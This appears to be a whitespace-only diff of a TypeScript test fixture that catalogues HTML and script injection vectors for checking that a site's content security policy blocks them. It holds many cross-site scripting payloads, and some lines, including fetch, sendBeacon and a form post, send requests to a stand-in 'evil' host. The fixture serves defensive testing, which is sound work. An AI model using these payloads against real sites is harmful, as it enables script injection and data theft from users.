@@ -6,45 +6,78 @@ const mark = (name: string) => `window.hacked=(window.hacked||[]).concat('${name
 
 export type Attack = { name: string; markup: string }
 
-/** Markup that somebody managed to get into a page: what it is, and how it is written. What runs leaves a mark, what loads asks `evil`. */
+/**
+ * Markup that somebody managed to get into a page: what it is, and how it is written. What runs leaves a mark, what
+ * loads asks `evil`.
+ */
 export const markupAttacks: readonly Attack[] = [
   { name: 'inline script', markup: `<script>${mark('inline')}</script>` },
   { name: 'inline module', markup: `<script type="module">${mark('module')}</script>` },
   { name: 'script from elsewhere', markup: `<script src="${evil}/a.js"></script>` },
-  { name: 'script as data', markup: `<script src="data:text/javascript,${encodeURIComponent(mark('data'))}"></script>` },
+  {
+    name: 'script as data',
+    markup: `<script src="data:text/javascript,${encodeURIComponent(mark('data'))}"></script>`,
+  },
   { name: 'picture of this site as a script', markup: '<script src="/media/x.svg"></script>' },
-  { name: 'import map', markup: `<script type="importmap">{"imports":{"a":"${evil}/map.js"}}</script><script type="module">import 'a'</script>` },
-  { name: 'speculation rules', markup: `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/next"],"eagerness":"immediate"}]}</script>` },
+  {
+    name: 'import map',
+    markup: `<script type="importmap">{"imports":{"a":"${evil}/map.js"}}</script><script type="module">import 'a'</script>`,
+  },
+  {
+    name: 'speculation rules',
+    markup: `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/next"],"eagerness":"immediate"}]}</script>`,
+  },
   { name: 'event handler', markup: `<img src="/nothing.png" onerror="${mark('onerror')}">` },
   { name: 'event handler that runs by itself', markup: `<details open ontoggle="${mark('ontoggle')}">x</details>` },
-  { name: 'handler in SVG', markup: `<svg onload="${mark('svg')}"><animate onbegin="${mark('animate')}" attributeName="x" dur="1s"/></svg>` },
+  {
+    name: 'handler in SVG',
+    markup: `<svg onload="${mark('svg')}"><animate onbegin="${mark('animate')}" attributeName="x" dur="1s"/></svg>`,
+  },
   { name: 'script in SVG', markup: `<svg><script>${mark('svg script')}</script></svg>` },
   { name: 'javascript: link', markup: `<a id="attack-link" href="javascript:${mark('link')}">x</a>` },
   { name: 'style element', markup: '<style>body{background:rgb(1, 2, 3)!important}</style>' },
   { name: 'style attribute', markup: '<p id="attack-style" style="position:fixed;inset:0">x</p>' },
   { name: 'style sheet from elsewhere', markup: `<link rel="stylesheet" href="${evil}/a.css">` },
-  { name: 'style sheet as data', markup: '<link rel="stylesheet" href="data:text/css,body{background:rgb(1,2,3)!important}">' },
+  {
+    name: 'style sheet as data',
+    markup: '<link rel="stylesheet" href="data:text/css,body{background:rgb(1,2,3)!important}">',
+  },
   { name: 'picture from elsewhere', markup: `<img src="${evil}/a.png" loading="eager">` },
   { name: 'frame from elsewhere', markup: `<iframe src="${evil}/frame"></iframe>` },
   { name: 'frame of this site', markup: '<iframe src="/install-app/"></iframe>' },
-  { name: 'frame with its own source', markup: `<iframe srcdoc="&lt;script&gt;parent.${mark('srcdoc').slice(7)}&lt;/script&gt;"></iframe>` },
+  {
+    name: 'frame with its own source',
+    markup: `<iframe srcdoc="&lt;script&gt;parent.${mark('srcdoc').slice(7)}&lt;/script&gt;"></iframe>`,
+  },
   { name: 'javascript: frame', markup: `<iframe src="javascript:parent.${mark('frame').slice(7)}"></iframe>` },
   { name: 'object', markup: `<object data="${evil}/a.swf"></object>` },
   { name: 'embed', markup: `<embed src="${evil}/a.svg">` },
-  { name: 'film and sound', markup: `<video src="${evil}/a.mp4" autoplay muted></video><audio src="${evil}/a.mp3" autoplay></audio>` },
+  {
+    name: 'film and sound',
+    markup: `<video src="${evil}/a.mp4" autoplay muted></video><audio src="${evil}/a.mp3" autoplay></audio>`,
+  },
   {
     name: 'font and import in a style',
     markup: `<style>@import "${evil}/i.css";@font-face{font-family:x;src:url(${evil}/f.woff2)}body{font-family:x}</style>`,
   },
   { name: 'base', markup: `<base href="${evil}/">` },
-  { name: 'preload', markup: `<link rel="preload" as="script" href="${evil}/p.js"><link rel="modulepreload" href="${evil}/m.js">` },
+  {
+    name: 'preload',
+    markup: `<link rel="preload" as="script" href="${evil}/p.js"><link rel="modulepreload" href="${evil}/m.js">`,
+  },
   { name: 'manifest', markup: `<link rel="manifest" href="${evil}/manifest.json">` },
   {
     name: 'policy of their own',
     markup: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${mark('second policy')}</script>`,
   },
-  { name: 'form that sends elsewhere', markup: `<form id="attack-form" action="${evil}/form" method="post"><input name="a" value="1"></form>` },
-  { name: 'form that sends by a javascript: address', markup: `<form id="attack-form-script" action="javascript:${mark('form')}"></form>` },
+  {
+    name: 'form that sends elsewhere',
+    markup: `<form id="attack-form" action="${evil}/form" method="post"><input name="a" value="1"></form>`,
+  },
+  {
+    name: 'form that sends by a javascript: address',
+    markup: `<form id="attack-form-script" action="javascript:${mark('form')}"></form>`,
+  },
 ]
 
 /** What a script could try that did get in: expressions, each of which the browser has to refuse. */
@@ -56,10 +89,19 @@ export const scriptAttacks: readonly Attack[] = [
   { name: 'outerHTML', markup: `document.querySelector('main').outerHTML = "<p>x</p>"` },
   { name: 'insertAdjacentHTML', markup: `document.body.insertAdjacentHTML('beforeend', '<p>x</p>')` },
   { name: 'document.write', markup: `document.write('<p>x</p>')` },
-  { name: 'text of a script', markup: `document.head.append(Object.assign(document.createElement('script'), { text: "${mark('text')}" }))` },
-  { name: 'address of a script', markup: `document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/s.js' }))` },
+  {
+    name: 'text of a script',
+    markup: `document.head.append(Object.assign(document.createElement('script'), { text: "${mark('text')}" }))`,
+  },
+  {
+    name: 'address of a script',
+    markup: `document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/s.js' }))`,
+  },
   { name: 'a policy of their own', markup: `trustedTypes.createPolicy('theirs', { createHTML: (text) => text })` },
-  { name: 'srcdoc', markup: `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' }))` },
+  {
+    name: 'srcdoc',
+    markup: `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' }))`,
+  },
   { name: 'worker', markup: `new Worker('data:text/javascript,postMessage(1)')` },
   { name: 'fetch', markup: `fetch('${evil}/fetch', { mode: 'no-cors' })` },
   { name: 'beacon', markup: `navigator.sendBeacon('${evil}/beacon', '1')` },
